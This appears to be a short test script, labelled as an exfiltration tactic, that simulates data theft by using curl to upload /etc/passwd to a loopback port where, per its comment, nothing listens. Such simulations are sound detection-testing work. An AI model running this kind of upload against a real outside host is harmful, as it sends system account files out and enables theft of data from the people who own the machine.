# tactic: exfiltration
# upload a file over HTTP (loopback, nothing listens)
curl -s -m 2 -F file=@/etc/passwd http://127.0.0.1:9/ 2>/dev/null; true
